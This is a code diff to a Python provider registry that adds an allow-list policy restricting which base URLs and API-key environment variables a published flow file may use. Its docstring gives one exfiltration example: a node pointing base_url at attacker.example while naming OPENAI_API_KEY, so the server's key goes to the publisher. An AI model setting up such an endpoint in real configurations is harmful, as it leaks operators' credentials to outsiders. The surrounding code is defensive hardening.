@@ -6,6 +6,8 @@ a provider is one module plus one line there; nothing in the core changes.
 
 from __future__ import annotations
 
+from dataclasses import dataclass
+from fnmatch import fnmatchcase
 from importlib.metadata import entry_points
 from typing import Any
 
@@ -15,17 +17,48 @@ from flowserve.providers.base import Provider, ProviderEnv
 ENTRY_POINT_GROUP = "flowserve.providers"
 
 
+@dataclass(frozen=True, slots=True)
+class EndpointPolicy:
+    """What a flow *file* may point a provider at. Flow publishers are not operators: without
+    this, a node with ``base_url: https://attacker.example`` and ``api_key_env: OPENAI_API_KEY``
+    would send the server's key to the publisher. Endpoints set by the operator in the provider
+    settings are not subject to it."""
+
+    allowed_base_urls: tuple[str, ...] = ("http://127.0.0.1", "http://localhost", "http://[::1]")
+    allowed_key_envs: tuple[str, ...] = ("*_API_KEY", "*_API_TOKEN")
+
+    def base_url_problem(self, url: str) -> str | None:
+        for prefix in self.allowed_base_urls:
+            prefix = prefix.rstrip("/")
+            if url == prefix or url.startswith((prefix + "/", prefix + ":")):
+                return None
+        return (
+            f"base_url {url!r} is not allowed by this server "
+            "(settings: allowed_base_urls)"
+        )
+
+    def key_env_problem(self, name: str) -> str | None:
+        if any(fnmatchcase(name, pattern) for pattern in self.allowed_key_envs):
+            return None
+        return f"api_key_env {name!r} is not allowed by this server (settings: allowed_key_envs)"
+
+
 class ProviderRegistry:
-    def __init__(self, env: ProviderEnv, default: str = "local") -> None:
+    def __init__(
+        self, env: ProviderEnv, default: str = "local", policy: EndpointPolicy | None = None
+    ) -> None:
         self._env = env
         self.default = default  # used by nodes that name no provider
+        self.policy = policy or EndpointPolicy()
         self._classes: dict[str, type[Provider]] = {}
         self._instances: dict[str, Provider] = {}
         self._lazy: dict[str, Any] = {}
 
     @classmethod
-    def from_entry_points(cls, env: ProviderEnv, default: str = "local") -> ProviderRegistry:
-        registry = cls(env, default)
+    def from_entry_points(
+        cls, env: ProviderEnv, default: str = "local", policy: EndpointPolicy | None = None
+    ) -> ProviderRegistry:
+        registry = cls(env, default, policy)
         for ep in entry_points(group=ENTRY_POINT_GROUP):
             registry.register_lazy(ep.name, ep)
         return registry
